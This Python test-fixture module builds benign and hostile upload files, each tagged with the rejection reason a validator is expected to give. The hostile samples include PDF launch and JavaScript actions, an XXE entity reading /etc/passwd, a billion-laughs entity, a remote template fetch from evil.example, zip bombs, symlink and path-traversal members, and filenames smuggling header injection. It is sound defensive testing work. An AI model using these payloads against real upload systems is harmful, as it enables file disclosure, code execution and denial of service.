"""Files that people hand in and files that attackers do, made here; each says what becomes of it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    ByteStringObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from awards.files.kinds import Why

PLANTED = b"Gertrude Plantova"
PLACE = b"GPS-48.2082N"


@dataclass(frozen=True)
class Case:
    """`why` is None where the file is taken."""

    title: str
    name: str
    data: bytes = field(repr=False)
    why: Why | None = None


# --- pictures ---------------------------------------------------------------------------------------------


def picture(form: str = "PNG", size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    out = io.BytesIO()
    Image.radial_gradient("L").resize(size).convert("RGB").save(out, form, **options)
    return out.getvalue()


def photograph() -> bytes:
    """With a name, a place and a remark of its maker."""
    exif = Image.Exif()
    exif[0x013B] = PLANTED.decode()
    exif[0x010E] = PLACE.decode()
    exif.get_ifd(0x8825)[29] = PLACE.decode()
    return picture("JPEG", exif=exif, comment=PLANTED)


def png_of(width: int, height: int) -> bytes:
    """A header that promises so many pixels, and no pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + head
    crc = struct.pack(">I", zlib.crc32(chunk))
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + crc + b"\0\0\0\0IEND\xaeB`\x82"


def animated() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


# --- PDF --------------------------------------------------------------------------------------------------


def pdf(change: Callable[[PdfWriter], None] | None = None, pages: int = 1, **encryption: str) -> bytes:
    writer = PdfWriter()
    for number in range(pages):
        page = writer.add_blank_page(300, 400)
        content = StreamObject()
        content._data = f"BT /F1 12 Tf 30 300 Td (Page {number + 1} of the practice) Tj ET".encode()
        page[NameObject("/Contents")] = writer._add_object(content)
        font = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}
        named = DictionaryObject({NameObject(key): NameObject(value) for key, value in font.items()})
        fonts = DictionaryObject({NameObject("/F1"): named})
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    writer.add_metadata({"/Author": PLANTED.decode(), "/Producer": PLANTED.decode()})
    if change is not None:
        change(writer)
    if encryption:
        writer.encrypt(**encryption, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _launch(writer: PdfWriter) -> None:
    action = {"/S": NameObject("/Launch"), "/F": TextStringObject("cmd.exe")}
    writer.root_object[NameObject("/OpenAction")] = _dictionary(action)
    writer.pages[0][NameObject("/AA")] = _dictionary({"/O": _dictionary(action)})


def _script(writer: PdfWriter) -> None:
    action = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.launchURL('javascript:1')")}
    named = _dictionary({"/Names": ArrayObject([TextStringObject("x"), _dictionary(action)])})
    writer.root_object[NameObject("/Names")] = _dictionary({"/JavaScript": named})
    writer.root_object[NameObject("/OpenAction")] = _dictionary(action)


def remarks(writer: PdfWriter) -> None:
    """One remark with its author, one link that people follow, one that a program would run."""
    corner = ArrayObject([NumberObject(n) for n in (10, 10, 90, 90)])
    good = {"/S": NameObject("/URI"), "/URI": TextStringObject("https://lindmere.example/")}
    bad = {"/S": NameObject("/URI"), "/URI": TextStringObject("javascript:alert(1)")}
    author = TextStringObject(PLANTED.decode())
    notes = [
        {"/Subtype": NameObject("/Text"), "/T": author, "/Contents": TextStringObject("A remark")},
        {"/Subtype": NameObject("/Link"), "/A": _dictionary(good)},
        {"/Subtype": NameObject("/Link"), "/A": _dictionary(bad)},
        {"/Subtype": NameObject("/FileAttachment"), "/T": author},
    ]
    annotations = [_dictionary({"/Type": NameObject("/Annot"), "/Rect": corner, **note}) for note in notes]
    writer.pages[0][NameObject("/Annots")] = ArrayObject(annotations)


def _photographed(writer: PdfWriter) -> None:
    stream = StreamObject()
    stream._data = photograph()
    names = {"/Type": "/XObject", "/Subtype": "/Image", "/Filter": "/DCTDecode", "/ColorSpace": "/DeviceRGB"}
    stream.update({NameObject(key): NameObject(value) for key, value in names.items()})
    numbers = {"/Width": 40, "/Height": 30, "/BitsPerComponent": 8}
    stream.update({NameObject(key): NumberObject(value) for key, value in numbers.items()})
    resources = writer.pages[0]["/Resources"]
    resources[NameObject("/XObject")] = _dictionary({"/Im1": writer._add_object(stream)})


def _told(writer: PdfWriter) -> None:
    """The same in XMP, for the file and for a page."""
    stream = StreamObject()
    stream._data = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + PLANTED + b"</x:xmpmeta>"
    kept = writer._add_object(stream)
    writer.root_object[NameObject("/Metadata")] = kept
    writer.pages[0][NameObject("/Metadata")] = kept
    private = {"/LastModified": ByteStringObject(b"D:2026"), "/Private": TextStringObject(PLANTED.decode())}
    writer.pages[0][NameObject("/PieceInfo")] = _dictionary({"/App": _dictionary(private)})


def _dictionary(values: Mapping[str, object]) -> DictionaryObject:
    return DictionaryObject({NameObject(key): value for key, value in values.items()})


def saved_again(data: bytes) -> bytes:
    """As many programs do: what was stays in the file, and what is new follows it."""
    writer = PdfWriter(io.BytesIO(data), incremental=True)
    writer.pages[0][NameObject("/Rotate")] = NumberObject(90)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- office documents -------------------------------------------------------------------------------------

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{part}" ContentType="x"/></Types>'
)
_CORE = f"<cp:coreProperties xmlns:cp='c' xmlns:dc='d'><dc:creator>{PLANTED.decode()}</dc:creator></cp:coreProperties>"
_DOCUMENT = (
    "<w:document xmlns:w='w'><w:body><w:p><w:ins w:id='1' w:author=\""
    + PLANTED.decode()
    + '" w:initials="GP">'
    "<w:r><w:t>One form for a change of address</w:t></w:r></w:ins></w:p></w:body></w:document>"
)
_COMMENTS = (
    '<w:comments xmlns:w="w"><w:comment w:author="' + PLANTED.decode() + '">Nice</w:comment></w:comments>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://x/hyperlink" Target="https://lindmere.example/" TargetMode="External"/>'
    '<Relationship Id="r2" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    "</Relationships>"
)


def docx(more: Mapping[str, bytes | str] = {}, part: str = "word/document.xml") -> bytes:  # only read
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": _TYPES.format(part=part),
        part: _DOCUMENT,
        "docProps/core.xml": _CORE,
        "word/comments.xml": _COMMENTS,
        "word/_rels/document.xml.rels": _RELATIONS,
        "word/media/image1.jpeg": photograph(),
        "docProps/thumbnail.jpeg": photograph(),
    }
    return archive({**members, **more})


def odt(more: Mapping[str, bytes | str] = {}, media_type: str = "text") -> bytes:  # only read
    members: dict[str, bytes | str] = {
        "mimetype": f"application/vnd.oasis.opendocument.{media_type}",
        "content.xml": f"<office:text xmlns:office='o' xmlns:dc='d'><dc:creator>{PLANTED.decode()}</dc:creator>Text</office:text>",
        "meta.xml": f"<office:document-meta>{PLANTED.decode()}</office:document-meta>",
        "META-INF/manifest.xml": "<manifest/>",
        "Thumbnails/thumbnail.png": picture(),
    }
    return archive({**members, **more})


def archive(members: Mapping[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in members.items():
            made.writestr(name, data)
    return out.getvalue()


def linked() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        member = zipfile.ZipInfo("word/link.xml")
        member.external_attr = 0o120777 << 16
        made.writestr(member, "/etc/passwd")
    return out.getvalue()


def protected_zip() -> bytes:
    """With the sign of encryption set on every member."""
    data = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>'
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>'


def corpus() -> Iterator[Case]:
    good = pdf()
    yield Case("a plain PDF", "practice.pdf", good)
    yield Case("three pages", "practice.pdf", pdf(pages=3))
    yield Case("saved again", "practice.pdf", saved_again(good))
    yield Case("a launch action", "practice.pdf", pdf(_launch))
    yield Case("JavaScript", "practice.pdf", pdf(_script))
    yield Case("a file inside", "practice.pdf", pdf(lambda w: w.add_attachment("x.exe", EICAR)))
    yield Case("remarks and links", "practice.pdf", pdf(remarks))
    yield Case("a photograph inside", "practice.pdf", pdf(_photographed))
    yield Case("XMP and private notes", "practice.pdf", pdf(_told))
    yield Case("capital letters", "PRACTICE.PDF", good)
    yield Case("two endings, the last true", "practice.docx.pdf", good)
    yield Case("a password", "practice.pdf", pdf(user_password="secret"), Why.PROTECTED)
    yield Case("cut off", "practice.pdf", good[: len(good) // 2], Why.BROKEN)
    yield Case(
        "no cross references",
        "practice.pdf",
        good.replace(b"xref", b"xxxx").replace(b"/Root", b"/Rxxt"),
        Why.BROKEN,
    )
    yield Case("no pages", "practice.pdf", pdf(pages=0), Why.BROKEN)
    yield Case("too many pages", "practice.pdf", pdf(pages=301), Why.TOO_MANY_PAGES)
    yield Case("HTML named PDF", "practice.pdf", HTML, Why.CONTENT)
    yield Case("HTML before a PDF", "practice.pdf", HTML + good, Why.CONTENT)
    yield Case("HTML after a PDF", "practice.pdf", good + HTML, Why.CONTENT)
    yield Case("an archive after a PDF", "practice.pdf", good + archive({"x.js": "1"}), Why.CONTENT)
    yield Case("a PDF named picture", "practice.png", good, Why.CONTENT)
    yield Case("a PDF named document", "practice.docx", good, Why.CONTENT)
    yield Case("nothing", "practice.pdf", b"", Why.EMPTY)
    yield Case("EICAR named PDF", "practice.pdf", EICAR, Why.CONTENT)
    yield Case("EICAR", "eicar.com", EICAR, Why.ENDING)

    yield Case("PNG", "map.png", picture())
    yield Case("JPEG", "map.jpg", picture("JPEG"))
    yield Case("JPEG by its long name", "map.jpeg", picture("JPEG"))
    yield Case("WebP", "map.webp", picture("WEBP"))
    yield Case("a photograph with notes", "map.jpg", photograph())
    yield Case("moving PNG", "map.png", animated())
    yield Case("a picture with a hole", "map.png", _transparent())
    yield Case("JPEG named PNG", "map.png", picture("JPEG"), Why.CONTENT)
    yield Case("JPEG cut off", "map.jpg", picture("JPEG", (400, 300))[:-2000], Why.BROKEN)
    yield Case("PNG cut off", "map.png", picture(size=(400, 300))[:900], Why.BROKEN)
    yield Case("50,000 by 50,000", "map.png", png_of(50_000, 50_000), Why.TOO_MANY_PIXELS)
    yield Case("TIFF", "map.tiff", picture("TIFF"), Why.ENDING)
    yield Case("TIFF named JPEG", "map.jpg", picture("TIFF"), Why.CONTENT)
    yield Case("GIF", "map.gif", picture("GIF"), Why.ENDING)
    yield Case("GIF that is a script", "map.png", b"GIF89a/*" + HTML + b"*/=0;", Why.CONTENT)
    yield Case("a picture with a page after it", "map.png", picture() + HTML)
    yield Case("SVG with a script", "map.svg", SVG % b"<script>alert(1)</script>", Why.ENDING)
    yield Case("SVG with a foreign object", "map.svg", SVG % b"<foreignObject/>", Why.ENDING)
    yield Case("SVG that fetches", "map.svg", SVG % b'<image href="//evil.example"/>', Why.ENDING)
    yield Case("SVG named PNG", "map.png", SVG % b"", Why.CONTENT)

    yield Case("a document", "letter.docx", docx())
    yield Case("a workbook", "budget.xlsx", docx(part="xl/workbook.xml"))
    yield Case("slides", "talk.pptx", docx(part="ppt/presentation.xml"))
    yield Case("an open document", "letter.odt", odt())
    yield Case("an open spreadsheet", "letter.ods", odt(media_type="spreadsheet"))
    yield Case("an open document of another kind", "letter.odp", odt(), Why.CONTENT)
    yield Case("a workbook named document", "letter.docx", docx(part="xl/workbook.xml"), Why.CONTENT)
    yield Case("a macro", "letter.docx", docx({"word/vbaProject.bin": b"x"}), Why.ACTIVE)
    yield Case(
        "macros by their type", "letter.docx", docx({"[Content_Types].xml": "macroEnabled"}), Why.ACTIVE
    )
    yield Case("a macro's ending", "letter.docm", docx({"word/vbaProject.bin": b"x"}), Why.ENDING)
    yield Case("ActiveX", "letter.docx", docx({"word/activeX/activeX1.xml": "<a/>"}), Why.ACTIVE)
    yield Case("a Basic module", "letter.odt", odt({"Basic/Standard/Module1.xml": "<a/>"}), Why.ACTIVE)
    yield Case("a foreign entity", "letter.docx", docx({"word/styles.xml": XXE}), Why.ACTIVE)
    yield Case(
        "a foreign entity in UTF-16",
        "letter.docx",
        docx({"word/styles.xml": XXE.encode("utf-16")}),
        Why.ACTIVE,
    )
    yield Case("a thousand laughs", "letter.odt", odt({"styles.xml": LAUGHS}), Why.ACTIVE)
    yield Case("a program inside", "letter.docx", docx({"word/embeddings/run.exe": EICAR}), Why.ACTIVE)
    yield Case("an archive inside", "letter.docx", docx({"word/x.zip": archive({"a": "b"})}), Why.ACTIVE)
    yield Case("a link inside", "letter.docx", linked(), Why.CONTENT)
    yield Case("an absolute path", "letter.docx", docx({"/etc/passwd": "x"}), Why.CONTENT)
    yield Case("a path that climbs", "letter.docx", docx({"word/../../x.xml": "x"}), Why.CONTENT)
    yield Case("1 to 1,000", "letter.docx", docx({"word/big.xml": b" " * 30_000_000}), Why.UNPACKS_TOO_LARGE)
    yield Case("100,000 members", "letter.docx", _crowded(), Why.UNPACKS_TOO_LARGE)
    yield Case("a directory that lies", "letter.docx", _lying(), Why.CONTENT)
    yield Case("protected members", "letter.docx", protected_zip(), Why.PROTECTED)
    yield Case("cut off", "letter.docx", docx()[:-500], Why.CONTENT)
    yield Case("an archive", "all.zip", archive({"a": "b"}), Why.ENDING)
    yield Case("a bare archive named document", "letter.docx", archive({"a": "b"}), Why.CONTENT)
    yield Case("no ending", "README", good, Why.ENDING)
    yield Case("only an ending", ".pdf", good)
    for title, name in NAMES.items():
        yield Case(title, name, good)


# What the name may be, whatever it does elsewhere.
NAMES = {
    "Arabic": "خدمة المدينة.pdf",
    "Chinese": "城市服务.pdf",
    "decomposed": "Malmo\u0308.pdf",
    "emoji": "👩‍💻 plan.pdf",
    "turned around": "plan\u202efdp.exe.pdf",
    "255 letters": "é" * 251 + ".pdf",
    "a device": "CON.pdf",
    "a point at the end of the stem": "plan..pdf",
    "a path": "../../etc/passwd.pdf",
    "a path of Windows": r"..\..\boot.pdf",
    "line ends": "plan\r\nSet-Cookie: a=b.pdf",
    "quotes": 'plan"; filename="x.html.pdf',
    "NUL": "plan\0.exe.pdf",
}


def _transparent() -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", (20, 20), (0, 0, 0, 0)).save(out, "PNG")
    return out.getvalue()


def _crowded() -> bytes:
    """100,000 empty members. Written by hand: the library would take longer than all other files of the corpus."""
    count = 100_000
    names = [b"word/%06d.xml" % number for number in range(count)]
    head, entry = struct.Struct("<4s5H3L2H"), struct.Struct("<4s6H3L5H2L")
    members = [head.pack(b"PK\x03\x04", 20, 0, 0, 0, 33, 0, 0, 0, 15, 0) + name for name in names]
    start = sum(map(len, members))
    directory = [
        entry.pack(b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 15, 0, 0, 0, 0, 0, number * 45) + name
        for number, name in enumerate(names)
    ]
    size = sum(map(len, directory))
    wide = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, start)
    where = struct.pack("<4sLQL", b"PK\x06\x07", 0, start + size, 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, size, start, 0)
    return b"".join([*members, *directory, wide, where, end])


def _lying() -> bytes:
    """It says that it has no directory."""
    data = bytearray(docx())
    at = data.rfind(b"PK\x05\x06")
    data[at + 8 : at + 20] = bytes(12)
    return bytes(data)


def reading(data: bytes) -> PdfReader:
    return PdfReader(io.BytesIO(data))
